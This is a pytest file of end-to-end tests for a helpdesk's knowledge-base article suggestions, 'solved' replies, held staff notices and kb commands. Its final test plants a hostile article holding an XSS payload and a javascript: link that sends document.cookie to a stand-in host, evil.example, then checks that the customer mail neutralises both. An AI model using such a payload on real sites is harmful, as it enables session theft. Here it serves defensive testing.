"""Issue 12 end to end: suggested articles in the acknowledgement, `solved` by reply, the
held staff notice, and `helpdesk kb` -- through the real pipeline, the recording MTA,
the real command line and a real `helpdesk run`."""
from __future__ import annotations

import json
import smtplib
import subprocess
import sys
import time
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from helpdesk.kb.calibration import AUTO_MIN_SCORE
from tests.servers.helpdesk import START, Desk, make_mail, staff_auth, stop_process
from tests.servers.smtp import free_port, wait_for
from tests.shell.test_lifecycle_e2e import html_of, kinds, last_mail, show, sweep, text_of, write

ANA = "Ana <ana@customer.example>"
ANA_ADDR = "ana@customer.example"
BO = "Bo <bo@partner.example>"
BO_ADDR = "bo@partner.example"
AGENT = "agent@example.com"
KB_URL = "https://docs.example.com/kb"
SOURCE = Path(__file__).resolve().parents[2]

PRINTER = """---
title: What to do when the printer smokes
tags: [printer, smoke, fire]
summary: Unplug it, open the rear cover, and let the fuser cool down before anything else.
---

If your printer smokes or smells of burning, unplug it at once. Open the rear
cover so that the fuser unit cools down, then check for jammed paper.
"""
PASSWORD = """# How to reset your password

Use the *Forgot password* link on the sign-in page; the mail with the new link
arrives within a few minutes.
"""
INVOICE = """---
title: How to get a copy of an invoice
categories: [billing]
tags: [invoice, copy, pdf]
summary: Reply with the invoice number and we send you the copy as a PDF.
---

Write to billing with the invoice number and the company it was made out to.
"""
ACTIVATION = """---
title: How a new connection is activated
tags: [connection, activation, credentials]
---

A new connection goes through the auto-activation: access, search and quote tests.
"""


@pytest.fixture(params=["sqlite", "postgresql"])
def database(request) -> dict[str, Any]:
    if request.param == "postgresql":
        return {"database": {"url": request.getfixturevalue("postgres_url")}}
    return {}


def kb_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "kb"
    (folder / "hardware").mkdir(parents=True, exist_ok=True)
    (folder / "hardware" / "printer.md").write_text(PRINTER)
    (folder / "password.md").write_text(PASSWORD)
    (folder / "activation.md").write_text(ACTIVATION)
    return folder


def kb_desk(desk_factory, tmp_path: Path, **kb: Any) -> Desk:
    changes = kb.pop("changes", {})
    return desk_factory(knowledge_base={"path": str(kb_folder(tmp_path)), "base_url": KB_URL,
                                        **kb}, **changes)


def open_case(desk: Desk, subject: str = "The printer is on fire",
              body: str = "Since this morning the printer smokes.\n",
              to: str = "support@example.com", sender: str = ANA) -> str:
    outcome = desk.ingest(make_mail(sender, to, subject, body))
    assert outcome.status == "new_case" and outcome.ref, outcome
    return outcome.ref


def ack_of(desk: Desk, ref: str) -> Any:
    return next(m for m in desk.sent_to(ANA_ADDR)
                if m["X-Helpdesk-Case"] == ref and m["Auto-Submitted"] == "auto-replied")


def to_staff(desk: Desk, ref: str) -> list[Any]:
    return [m for m in desk.sent_to(AGENT) if m["X-Helpdesk-Case"] == ref]


# -- the acknowledgement ----------------------------------------------------------------------

def test_the_ack_suggests_the_matching_article_in_text_and_html(desk_factory, tmp_path, database):
    desk = kb_desk(desk_factory, tmp_path, changes=database)
    ref = open_case(desk)
    ack = ack_of(desk, ref)
    url = f"{KB_URL}/hardware/printer"
    text = " ".join(text_of(ack).split())
    assert "What to do when the printer smokes" in text and url in text
    assert "Unplug it, open the rear cover" in text
    assert 'reply to this message with the single word "solved"' in text
    assert "Otherwise just reply with any further details" in text
    assert "How to reset your password" not in text
    html = html_of(ack)
    assert f'<a href="{url}"' in html and "What to do when the printer smokes</a>" in html
    assert "<strong>solved</strong>" in html

    shown = show(desk, ref)
    [suggestion] = shown["suggestions"]
    assert set(suggestion) == {"slug", "title", "url", "score"}
    assert (suggestion["slug"], suggestion["title"], suggestion["url"]) == (
        "hardware/printer", "What to do when the printer smokes", url)
    assert suggestion["score"] >= AUTO_MIN_SCORE
    assert "Suggested:    What to do when the printer smokes" in desk.cli(
        "cases", "show", ref, check=True).stdout
    [notice] = to_staff(desk, ref)
    assert "Suggested to the customer in the acknowledgement" in text_of(notice)
    assert "What to do when the printer smokes" in text_of(notice)


def test_nothing_is_suggested_below_the_threshold(desk_factory, tmp_path):
    body = "Since this morning the paper tray makes a noise.\n"
    desk = kb_desk(desk_factory, tmp_path)
    ref = open_case(desk, "Tray noise on the printer", body)
    assert show(desk, ref)["suggestions"] == []
    assert "may already answer" not in text_of(ack_of(desk, ref))
    assert "solved" not in text_of(ack_of(desk, ref))

    low = kb_desk(desk_factory, tmp_path / "low", min_score=0.2, changes={"name": "low"})
    low_ref = open_case(low, "Tray noise on the printer", body)
    assert [s["slug"] for s in show(low, low_ref)["suggestions"]] == ["hardware/printer"]


def test_a_billing_article_is_suggested_for_billing_requests_only(desk_factory, tmp_path):
    desk = kb_desk(desk_factory, tmp_path)
    (tmp_path / "kb" / "billing").mkdir()
    (tmp_path / "kb" / "billing" / "invoice-copy.md").write_text(INVOICE)
    question = ("A copy of our invoice", "Could you send me a copy of the invoice for October?\n")
    care = open_case(desk, *question)
    billing = open_case(desk, *question, to="billing@example.com")
    assert care.startswith("CC-") and billing.startswith("BL-")

    care_ack = " ".join(text_of(ack_of(desk, care)).split())
    assert "How to get a copy of an invoice" not in care_ack
    assert "may already answer" not in care_ack
    assert show(desk, care)["suggestions"] == []
    billing_ack = " ".join(text_of(ack_of(desk, billing)).split())
    assert "How to get a copy of an invoice" in billing_ack
    assert f"{KB_URL}/billing/invoice-copy" in billing_ack
    assert "we send you the copy as a PDF" in billing_ack
    assert [s["slug"] for s in show(desk, billing)["suggestions"]] == ["billing/invoice-copy"]


def test_the_ack_of_a_request_fetched_from_imap_lists_the_matching_article(
        dovecot, desk_factory, tmp_path):
    desk = kb_desk(desk_factory, tmp_path, changes={"inbound": {"imap": dovecot.mailbox_config()}})
    dovecot.append(make_mail(ANA, "support@example.com", "The printer is on fire",
                             "Since this morning the printer smokes.\n"))
    desk.cli("fetch", check=True)
    assert dovecot.count("INBOX") == 0
    [ack] = [m for m in desk.sent_to(ANA_ADDR) if m["Auto-Submitted"] == "auto-replied"]
    assert ack["Subject"] == f"[{ack['X-Helpdesk-Case']}] The printer is on fire"
    url = f"{KB_URL}/hardware/printer"
    text = " ".join(text_of(ack).split())
    assert "What to do when the printer smokes" in text and url in text
    assert 'reply to this message with the single word "solved"' in text
    html = html_of(ack)
    assert f'<a href="{url}"' in html and "What to do when the printer smokes</a>" in html


def test_connections_requests_get_no_suggestions(desk_factory, tmp_path):
    desk = kb_desk(desk_factory, tmp_path)
    ref = open_case(desk, "New connection activation", "Please activate the new connection; "
                    "we need the credentials for the activation tests.\n",
                    to="connections@example.com")
    assert ref.startswith("CN-") and show(desk, ref)["suggestions"] == []
    assert "may already answer" not in text_of(ack_of(desk, ref))


# -- solved -----------------------------------------------------------------------------------

def test_solved_from_the_requester_resolves_and_tells_the_customer_and_staff(
        desk_factory, tmp_path, database):
    desk = kb_desk(desk_factory, tmp_path, changes=database)
    ref = open_case(desk)
    outcome = write(desk, ref, ANA, "Solved.\n\nThe article did it, thanks!\n")
    assert (outcome.status, outcome.ref) == ("reply", ref)
    shown = show(desk, ref)
    assert shown["status"] == "resolved"
    [event] = [e for e in shown["events"] if e["type"] == "self_solved"]
    assert event["detail"] == {"by": ANA_ADDR, "articles": ["hardware/printer"]}
    assert shown["due_at"] == (START + timedelta(days=7)).isoformat()  # the 7 days to reopen
    assert kinds(desk, ref) == ["ack", "self_solved"]
    confirmation = " ".join(text_of(last_mail(desk, ref, ANA_ADDR)).split())
    assert f"Case {ref}" in confirmation and "is now resolved" in confirmation
    assert "within 7 days" in confirmation
    told = to_staff(desk, ref)[-1]
    told_text = " ".join(text_of(told).split())
    assert f"Case {ref} was solved by the customer" in told_text
    assert told["Subject"].startswith(f"[{ref}]")

    stats = json.loads(desk.cli("kb", "stats", "--json", check=True).stdout)
    assert stats["cases_with_suggestions"] == 1 and stats["self_solved"] == 1
    assert stats["self_solved_rate"] == 1.0
    assert {"slug": "hardware/printer", "suggested": 1, "self_solved": 1} in stats["articles"]
    assert {"slug": "password", "suggested": 0, "self_solved": 0} in stats["articles"]


def test_solved_from_a_colleague_in_cc_resolves_and_tells_everyone_on_the_case(desk_factory,
                                                                              tmp_path):
    desk = kb_desk(desk_factory, tmp_path)
    outcome = desk.ingest(make_mail(ANA, "support@example.com", "The printer is on fire",
                                    "Since this morning the printer smokes.\n", cc=[BO]))
    ref = outcome.ref
    assert kinds(desk, ref, to=BO_ADDR) == ["ack"]  # Bo got the suggestions too
    reply = write(desk, ref, BO, "solved\n\nUnplugging it did the trick.\n")
    assert (reply.status, reply.ref) == ("reply", ref)
    shown = show(desk, ref)
    assert shown["status"] == "resolved"
    [event] = [e for e in shown["events"] if e["type"] == "self_solved"]
    assert event["detail"] == {"by": BO_ADDR, "articles": ["hardware/printer"]}
    assert kinds(desk, ref) == ["ack", "self_solved"]
    assert kinds(desk, ref, to=BO_ADDR) == ["ack", "self_solved"]
    for address in (ANA_ADDR, BO_ADDR):
        confirmation = " ".join(text_of(last_mail(desk, ref, address)).split())
        assert f"Case {ref}" in confirmation and "is now resolved" in confirmation
    assert f"Case {ref} was solved by the customer" in " ".join(
        text_of(to_staff(desk, ref)[-1]).split())


def test_a_self_solved_case_reopens_on_a_reply_within_7_days(desk_factory, tmp_path):
    desk = kb_desk(desk_factory, tmp_path)
    ref = open_case(desk)
    write(desk, ref, ANA, "solved\n")
    desk.clock.current = START + timedelta(days=6, hours=23)
    outcome = write(desk, ref, ANA, "It smokes again, unplugging only helped for a while.\n")
    assert (outcome.status, outcome.ref) == ("reply", ref)
    assert kinds(desk, ref) == ["ack", "self_solved", "reopened"]
    assert "reopened" in text_of(last_mail(desk, ref, ANA_ADDR))
    notice = to_staff(desk, ref)[-1]
    assert "It smokes again, unplugging only helped" in text_of(notice)
    sweep(desk, START + timedelta(days=8))  # the 7 days no longer run: nothing closes it
    shown = show(desk, ref)
    assert shown["status"] == "in_progress" and shown["due_at"] is None
    assert kinds(desk, ref) == ["ack", "self_solved", "reopened"]


def test_solved_from_a_stranger_or_an_auto_reply_does_not_resolve(desk_factory, tmp_path):
    desk = kb_desk(desk_factory, tmp_path)
    ref = open_case(desk)
    auto = last_mail(desk, ref, ANA_ADDR)
    machine = desk.ingest(make_mail(ANA, auto["Reply-To"], f"Re: {auto['Subject']}", "solved\n",
                                    in_reply_to=auto["Message-ID"],
                                    headers={"Auto-Submitted": "auto-replied"}))
    assert machine.status == "machine"
    stranger = desk.ingest(make_mail("eve@elsewhere.example", "support@example.com",
                                     f"Re: [{ref}] The printer is on fire", "solved\n"))
    assert stranger.status == "new_case" and stranger.ref != ref
    assert show(desk, ref)["status"] == "open"
    assert not [e for e in show(desk, ref)["events"] if e["type"] == "self_solved"]
    assert kinds(desk, ref) == ["ack"]


def test_solved_while_an_agent_works_on_it_resolves_and_again_changes_nothing(
        desk_factory, tmp_path):
    desk = kb_desk(desk_factory, tmp_path)
    ref = open_case(desk)
    notice = to_staff(desk, ref)[-1]
    desk.ingest(make_mail(AGENT, notice["Reply-To"], f"Re: {notice['Subject']}",
                          "Which model is it?\n", in_reply_to=notice["Message-ID"],
                          headers=staff_auth(AGENT)))
    assert show(desk, ref)["status"] == "in_progress"
    write(desk, ref, ANA, "#solved\n")
    assert show(desk, ref)["status"] == "resolved"
    sent = len(desk.sent())
    write(desk, ref, ANA, "solved\n")  # once more: it must not reopen the case
    assert show(desk, ref)["status"] == "resolved" and len(desk.sent()) == sent


# -- the held staff notice --------------------------------------------------------------------

def test_the_held_staff_notice_goes_out_after_the_delay_unless_solved(
        desk_factory, tmp_path, database):
    desk = kb_desk(desk_factory, tmp_path, hold_staff_notice="30m", changes=database)
    held = open_case(desk)
    solved = open_case(desk, "Smoke from my printer", "The printer smokes a lot.\n")
    plain = open_case(desk, "Invoice address", "Please change our invoice address.\n")
    assert to_staff(desk, held) == [] and to_staff(desk, solved) == []
    assert len(to_staff(desk, plain)) == 1  # nothing suggested: nothing to hold it for

    write(desk, solved, ANA, "solved\n")
    assert [e["type"] for e in show(desk, solved)["events"]].count("staff_notice_dropped") == 1
    sweep(desk, START + timedelta(minutes=29))
    assert to_staff(desk, held) == []
    sweep(desk, START + timedelta(minutes=31))
    sweep(desk, START + timedelta(minutes=45))  # and never twice
    [notice] = to_staff(desk, held)
    text = " ".join(text_of(notice).split())
    assert f"Case {held} needs your attention" in text and "was held while the customer" in text
    assert "Since this morning the printer smokes" in text  # the request itself
    assert [json.loads(desk.cli("cases", "show", solved, "--json").stdout)["status"]] == [
        "resolved"]
    [told] = to_staff(desk, solved)  # no held notice, only "solved by the customer"
    assert "was solved by the customer" in text_of(told)


def test_a_reply_while_the_notice_is_held_tells_staff_at_once_and_only_once(
        desk_factory, tmp_path):
    desk = kb_desk(desk_factory, tmp_path, hold_staff_notice="30m")
    ref = open_case(desk)
    assert to_staff(desk, ref) == []
    write(desk, ref, ANA, "The article did not help: it still smokes after unplugging.\n")
    [notice] = to_staff(desk, ref)
    text = " ".join(text_of(notice).split())
    assert "it still smokes after unplugging" in text
    assert "The request that opened the case: > Since this morning the printer smokes" in text
    sweep(desk, START + timedelta(minutes=31))
    assert len(to_staff(desk, ref)) == 1
    dropped = [e for e in show(desk, ref)["events"] if e["type"] == "staff_notice_dropped"]
    assert [e["detail"] for e in dropped] == [{"reason": "reply"}]


# -- the daemon -------------------------------------------------------------------------------

@pytest.mark.slow
def test_an_article_added_or_edited_while_helpdesk_runs_is_suggested_for_the_next_mail(
        desk_factory, tmp_path):
    port = free_port()
    desk = kb_desk(desk_factory, tmp_path, hold_staff_notice="2s",
                   changes={"inbound": {"smtp_listener": {"host": "127.0.0.1", "port": port}},
                            "timers": {"sweep_interval": "1s"}})
    folder = tmp_path / "kb"
    log = tmp_path / "daemon.log"
    with log.open("ab") as out:
        daemon = subprocess.Popen([sys.executable, "-m", "helpdesk", "-c", str(desk.config_path),
                                   "run"], stdout=out, stderr=subprocess.STDOUT)

    def send(subject: str, body: str) -> str:
        def once() -> bool:
            try:
                with smtplib.SMTP("127.0.0.1", port, timeout=5) as smtp:
                    smtp.sendmail(ANA_ADDR, ["support@example.com"],
                                  make_mail(ANA, "support@example.com", subject, body))
                return True
            except OSError:
                return False
        wait_for(once, timeout=20, interval=0.2)
        return wait_for(lambda: next((m for m in desk.sent_to(ANA_ADDR)
                                      if m["Subject"].endswith(subject)), None), timeout=20)

    question = ("Flux capacitor overheats", "The flux capacitor overheats after an hour.\n")
    try:
        assert "may already answer" not in text_of(send(*question))
        (folder / "flux.md").write_text("---\ntitle: Cooling the flux capacitor\n"
                                        "tags: [flux, capacitor, overheat]\n---\n"
                                        "A flux capacitor that overheats needs its fan cleaned.\n")
        time.sleep(1.5)  # the library looks at the folder at most once a second
        ack = send("Flux capacitor overheats again", question[1])
        assert "Cooling the flux capacitor" in text_of(ack)
        ref = ack["X-Helpdesk-Case"]
        sent_at = time.monotonic()
        notice = wait_for(lambda: to_staff(desk, ref), timeout=20, interval=0.2)
        assert time.monotonic() - sent_at > 0.5  # held, then sent by the daemon's scheduler
        assert len(notice) == 1

        (folder / "flux.md").write_text("---\ntitle: Keeping the flux capacitor cool\n"
                                        "tags: [flux, capacitor, overheat]\n---\n"
                                        "A flux capacitor that overheats needs its fan cleaned.\n")
        time.sleep(1.5)
        ack = send("Flux capacitor overheats a third time", question[1])
        assert "Keeping the flux capacitor cool" in text_of(ack)
        assert "Cooling the flux capacitor" not in text_of(ack)
    finally:
        code = stop_process(daemon)
    assert code == 0, log.read_text()


# -- the command line -------------------------------------------------------------------------

def test_kb_check_passes_a_good_knowledge_base_and_lists_every_problem_of_a_bad_one(
        desk_factory, tmp_path):
    desk = kb_desk(desk_factory, tmp_path)
    good = desk.cli("kb", "check")
    assert good.returncode == 0 and "3 article(s)" in good.stdout, good.stderr
    folder = tmp_path / "kb"
    (folder / "broken.md").write_text("---\ntitle: [oops\n---\n")
    (folder / "again.md").write_text("# How to reset your password\n\nSee [x](missing.md).\n")
    bad = desk.cli("kb", "check")
    assert bad.returncode == 2
    assert "kb: broken: front matter is not valid YAML" in bad.stderr
    assert "kb: duplicate title: again, password" in bad.stderr
    assert "kb: again: link to 'missing.md': no such article" in bad.stderr


def test_kb_search_shows_what_would_be_suggested_best_first(desk_factory, tmp_path):
    desk = kb_desk(desk_factory, tmp_path)
    found = json.loads(desk.cli("kb", "search", "my printer smokes, is it on fire?", "--json",
                                check=True).stdout)
    assert [r["slug"] for r in found] == ["hardware/printer"]
    assert set(found[0]) == {"slug", "title", "url", "score"}
    assert found[0]["url"] == f"{KB_URL}/hardware/printer"
    none = desk.cli("kb", "search", "my printer smokes, is it on fire?", "--category",
                    "connections", "--json", check=True)
    assert json.loads(none.stdout) == []
    unknown = desk.cli("kb", "search", "printer", "--category", "sales")
    assert unknown.returncode == 2 and "sales" in unknown.stderr


def test_the_shipped_config_suggests_a_sample_article_and_nothing_for_what_none_covers(
        tmp_path):
    """config/helpdesk.yaml as shipped, byte for byte, next to the shipped sample articles
    (links, so that its relative paths resolve and any database it opens is the copy's)."""
    (tmp_path / "config").mkdir()
    shipped = (SOURCE / "config" / "helpdesk.yaml").read_text()
    (tmp_path / "config" / "helpdesk.yaml").write_text(shipped)
    (tmp_path / "helpdesk").symlink_to(SOURCE / "helpdesk")
    (tmp_path / "templates").symlink_to(SOURCE / "templates")

    def search(text: str, *options: str) -> list[dict[str, Any]]:
        result = subprocess.run([sys.executable, "-m", "helpdesk", "-c",
                                 str(tmp_path / "config" / "helpdesk.yaml"), "kb", "search",
                                 text, *options, "--json"],
                                capture_output=True, text=True, timeout=120, cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        return json.loads(result.stdout)

    question = "What does it mean when my case is waiting for feedback?"
    for options in ((), ("--category", "customer_care")):
        found = search(question, *options)
        assert [(r["slug"], r["title"]) for r in found] == [
            ("case-statuses", "What the statuses of a case mean")]
        assert found[0]["url"] == "http://127.0.0.1:8080/kb/case-statuses"
        assert found[0]["score"] >= AUTO_MIN_SCORE
    # an invoice, but not a copy of one: the billing sample must not be offered for it
    assert search("My invoice amount is wrong") == []
    assert search("My invoice amount is wrong", "--category", "billing") == []


def test_kb_commands_need_a_knowledge_base(desk_factory):
    desk = desk_factory()
    result = desk.cli("kb", "check")
    assert result.returncode == 2 and "knowledge_base.path" in result.stderr


def test_an_article_never_puts_a_script_link_or_markup_into_customers_mail(desk_factory, tmp_path):
    # `kb check` names a url that is not an absolute http(s) link, but the daemon used
    # it anyway: one careless (or planted) article put a javascript: link into every
    # acknowledgement it was suggested in.
    desk = kb_desk(desk_factory, tmp_path)
    (tmp_path / "kb" / "hardware" / "printer.md").write_text(PRINTER.replace(
        "title: What to do when the printer smokes",
        'title: What to do when the printer smokes <img src=x onerror=alert(1)>\n'
        'url: "javascript:fetch(\'//evil.example/\'+document.cookie)"'))
    ref = open_case(desk)
    html = html_of(ack_of(desk, ref))
    assert "javascript:" not in html and "<img" not in html and "&lt;img" in html
    assert f'<a href="{KB_URL}/hardware/printer"' in html  # base_url/<slug> instead
